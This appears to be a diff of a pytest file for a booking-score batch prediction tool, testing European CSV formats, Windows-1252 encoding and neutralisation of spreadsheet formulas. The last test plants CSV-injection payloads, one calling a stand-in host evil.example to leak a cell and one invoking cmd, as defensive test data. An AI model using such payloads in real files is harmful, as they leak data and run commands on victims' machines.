@@ -2,28 +2,14 @@
 
 from __future__ import annotations
 
-import os
-import subprocess
-import sys
 from pathlib import Path
 
 import pandas as pd
 import pytest
 
-from data_engineering.src.paths import REPO_ROOT
 from data_engineering.src.synthetic import make_bookings, write_european
 
-
-def _run(trained_workspace, *args: str) -> subprocess.CompletedProcess:
-    return subprocess.run(
-        [sys.executable, "-m", "data_science.predict_batch", *args],
-        cwd=REPO_ROOT,
-        env={**os.environ, **trained_workspace.env()},
-        capture_output=True,
-        text=True,
-        timeout=300,
-        check=False,
-    )
+PREDICT = "data_science.predict_batch"
 
 
 def _read(path: Path) -> pd.DataFrame:
@@ -38,13 +24,20 @@ def bookings() -> pd.DataFrame:
 
 
 def test_a_semicolon_file_with_decimal_commas_scores_as_the_plain_file(
-    trained_workspace, bookings: pd.DataFrame, tmp_path: Path
+    trained_workspace, bookings: pd.DataFrame, tmp_path: Path, run_module
 ) -> None:
     plain = tmp_path / "plain.csv"
     bookings.to_csv(plain, index=False)
     european = write_european(tmp_path / "european.csv", bookings)
-    assert _run(trained_workspace, str(plain), str(tmp_path / "plain.out.csv")).returncode == 0
-    result = _run(trained_workspace, str(european), str(tmp_path / "european.out.csv"))
+    assert (
+        run_module(
+            PREDICT, str(plain), str(tmp_path / "plain.out.csv"), env=trained_workspace.env()
+        ).returncode
+        == 0
+    )
+    result = run_module(
+        PREDICT, str(european), str(tmp_path / "european.out.csv"), env=trained_workspace.env()
+    )
     assert result.returncode == 0, result.stderr
     assert f"reading {european}: semicolon-separated, decimal comma, UTF-8" in result.stderr
     assert "200 rows in, 200 scored" in result.stdout
@@ -52,13 +45,13 @@ def test_a_semicolon_file_with_decimal_commas_scores_as_the_plain_file(
 
 
 def test_a_windows_1252_file_is_scored_and_its_accents_kept(
-    trained_workspace, bookings: pd.DataFrame, tmp_path: Path
+    trained_workspace, bookings: pd.DataFrame, tmp_path: Path, run_module
 ) -> None:
     bookings.loc[3, "guest"] = "José Müller"
     bookings.loc[5, "country"] = "Côte d’Ivoire"  # not a country code: rejected, and shown as written
     path = tmp_path / "export.csv"
     bookings.to_csv(path, index=False, encoding="cp1252")
-    result = _run(trained_workspace, str(path), str(tmp_path / "out.csv"))
+    result = run_module(PREDICT, str(path), str(tmp_path / "out.csv"), env=trained_workspace.env())
     assert result.returncode == 0, result.stderr
     assert f"reading {path}: comma-separated, Windows-1252" in result.stderr
     assert "200 rows in, 199 scored" in result.stdout
@@ -70,14 +63,14 @@ def test_a_windows_1252_file_is_scored_and_its_accents_kept(
 
 
 def test_cells_that_would_run_as_formulas_are_neutralised_in_both_outputs(
-    trained_workspace, bookings: pd.DataFrame, tmp_path: Path
+    trained_workspace, bookings: pd.DataFrame, tmp_path: Path, run_module
 ) -> None:
     bookings.loc[0, "guest"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     bookings.loc[1, "guest"] = "@SUM(1+1)*cmd|' /C calc'!A0"
     bookings.loc[2, ["guest", "adults"]] = ["+33 6 12 34 56 78", "-2"]  # rejected: adults < 0
     path = tmp_path / "in.csv"
     bookings.to_csv(path, index=False)
-    result = _run(trained_workspace, str(path), str(tmp_path / "out.csv"))
+    result = run_module(PREDICT, str(path), str(tmp_path / "out.csv"), env=trained_workspace.env())
     assert result.returncode == 0, result.stderr
     scored = _read(tmp_path / "out.csv")
     assert scored.loc[:1, "guest"].tolist() == [
